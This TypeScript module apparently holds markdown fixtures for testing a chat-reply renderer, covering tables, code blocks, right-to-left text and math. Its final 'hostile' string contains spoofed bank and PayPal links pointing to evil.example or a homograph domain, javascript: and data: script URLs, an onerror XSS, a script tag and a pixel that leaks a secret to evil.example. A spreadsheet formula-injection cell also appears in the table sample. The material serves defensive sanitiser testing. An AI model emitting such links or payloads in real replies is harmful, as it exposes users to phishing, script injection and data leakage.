/** Replies as models write them, with all that markdown has. */

export const everything = `# A trip to Bergen

Bergen has **about 240 days of rain** a year, so plan for it. Here is what I would do with *two days*, and what it costs.

## Day one

1. Take the **Fløibanen** up to Mount Fløyen. It leaves every 15 minutes.
2. Walk down through the woods
   - the path is steep, but paved
   - with children, allow an hour
3. Eat at the [fish market](https://www.bergen.kommune.no), ~~before ten~~ before noon.

> The seven mountains are the city’s living room.
>
> — said by everybody who lives there

## What it costs

| What | Adults | Children |
|:-----|------:|:-------:|
| Fløibanen, return | 190 kr | 95 kr |
| Fish soup | 249 kr | 129 kr |
| Bryggens Museum | 160 kr | free |

### To pack

- [x] A raincoat
- [ ] Dry socks, \`2 × n\` pairs for *n* days
- [ ] A book, for when it pours[^rain]

\`\`\`ts title="rain.ts"
// What the forecast says, in millimetres.
export async function rain(day: number): Promise<number> {
  const reply = await fetch(\`/forecast?day=\${day}\`)
  return ((await reply.json()) as { mm: number }).mm
}
\`\`\`

---

More at www.visitbergen.com, or write to me@example.com.

[^rain]: The record is 156.5 mm in one day, on 14 September 2005.
`

export const code = `Three ways to say the same:

\`\`\`python
def fib(n: int) -> int:
    """The n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a  # linear
\`\`\`

\`\`\`rust
fn fib(n: u32) -> u64 {
    (0..n).fold((0, 1), |(a, b), _| (b, a + b)).0
}
\`\`\`

\`\`\`sql
SELECT n, value FROM fib WHERE n <= 10 ORDER BY n;
\`\`\`

\`\`\`diff
- return fib(n - 1) + fib(n - 2)
+ return memo[n] ?? (memo[n] = fib(n - 1) + fib(n - 2))
\`\`\`

\`\`\`
no language, no colours
\`\`\`
`

export const wide = `| Region | Q1 revenue | Q2 revenue | Q3 revenue | Q4 revenue | Growth | Comment |
|---|---:|---:|---:|---:|---:|---|
| Northern Europe | 1,204,300 | 1,388,120 | 1,401,900 | 1,622,450 | 34.7 % | Carried by Norway and Finland |
| Southern Europe | 988,200 | 1,002,340 | 1,120,010 | 1,090,300 | 10.3 % | A slow summer, as every year |
| \`=1+1\` | 1 | **2** | ~~3~~ | 4 | 5 % | what a spreadsheet must not compute |
`

export const rightToLeft = `# مرحبا بك في المساعد

هذا **نص عربي** فيه [رابط](https://example.com) و \`code\`.

- العنصر الأول
- العنصر الثاني

A paragraph in English stands on its own side.

1. עברית
2. English in a list

| اسم | عدد |
|---|---:|
| تفاح | 3 |
`

export const math = `The area of a circle is $A = \\pi r^2$, and it costs $5 or $6.

$$
\\int_{-\\infty}^{\\infty} e^{-x^2} \\, dx = \\sqrt{\\pi}
$$

By Euler, \\(e^{i\\pi} + 1 = 0\\).
`

export const diagram = `How a reply comes:

\`\`\`nomnoml
[Browser] question -> [Flow]
[Flow] chunks -> [Browser]
[Flow] -> [Model]
\`\`\`
`

export const hostile = `[Your bank](https://evil.example/login), [https://paypal.com](https://evil.example), [раураl.com](https://xn--80ak6aa92e.com)

[click me](javascript:alert(1)) and [this](data:text/html,<script>alert(1)</script>)

![tracking pixel](https://evil.example/pixel.png?secret=42) <img src=x onerror=alert(1)>

<script>alert(1)</script>
`
